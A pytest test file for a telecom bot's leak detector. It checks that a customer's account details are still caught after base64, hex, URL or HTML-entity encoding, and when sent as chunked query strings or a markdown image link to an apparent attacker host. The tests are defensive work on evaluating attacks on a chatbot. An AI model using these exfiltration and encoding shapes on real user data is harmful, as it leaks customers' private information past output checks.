"""What judges the coaxings: data of an account is seen in each shape in which the stand-in, or anybody, may put it."""

from __future__ import annotations

import base64
import json
import re
from urllib.parse import quote

import pytest

from examples import hostile
from examples.hostile import AWAY, leaked
from telecom_bot.billing import Billing
from telecom_bot.guard import Guard
from telecom_bot.words import ALL

FACTS = Billing().of("sub_victim").facts
NAMES = [name for name in FACTS if name != "plan.name"]
SHAPES = [
    lambda text: text, str.upper, lambda text: text[::-1], " ".join, "-".join, lambda text: text.encode().hex(),
    lambda text: base64.b64encode(text.encode()).decode(),
    lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    lambda text: quote(text, safe=""), lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: "".join(f"&#{ord(one)};" for one in text), lambda text: hostile._shapes(text)[8],
    lambda text: " ".join(f"{AWAY}/{n}?d={quote(one)}" for n, one in enumerate(re.findall(".{1,9}", text))),
    lambda text: f"![]({AWAY}/{quote(text)})", lambda text: json.dumps({"a": text}),
]  # fmt: skip


@pytest.mark.parametrize("shape", range(len(SHAPES)))
@pytest.mark.parametrize("before", ["", "x", "xy"])
def test_each_datum_is_seen_in_each_shape(shape: int, before: str) -> None:
    """Within other text; where letters are counted off (base64), wherever it begins."""
    for name in NAMES:
        said = SHAPES[shape](f"{before} {FACTS[name]} and so on")
        assert name in leaked(said, FACTS), name


def test_what_is_no_leak_is_none() -> None:
    """What the bot says, and another customer's account, hold nothing of this one."""
    sentences = [sentence for words in ALL.values() for sentence in words.sentences.values()]
    assert leaked("\n".join(sentences), FACTS) == []
    other = Billing().of("sub_other").facts
    said = "\n".join(Guard().fill(one, {**other, "proof.page": "/code/x"}) for one in sentences)
    assert leaked(said, FACTS) == []
